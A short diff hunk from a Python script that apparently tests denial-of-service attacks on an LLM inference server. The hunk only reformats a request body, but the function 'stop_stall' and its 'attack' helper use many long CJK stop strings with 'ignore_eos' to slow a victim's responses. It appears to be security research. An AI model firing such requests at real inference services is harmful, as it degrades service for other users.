@@ -70,7 +70,12 @@ def poison(url: str) -> dict:
 
 def stop_stall(url: str, stop_chars: int, stop_count: int) -> dict:
     alone = min(victim(url)[1] for _ in range(3))
-    body = {"prompt": "hello", "max_tokens": 64, "ignore_eos": True, "stop": [chr(0x4E00 + i) * stop_chars for i in range(stop_count)]}
+    body = {
+        "prompt": "hello",
+        "max_tokens": 64,
+        "ignore_eos": True,
+        "stop": [chr(0x4E00 + i) * stop_chars for i in range(stop_count)],
+    }
     result: dict = {}
 
     def attack() -> None:
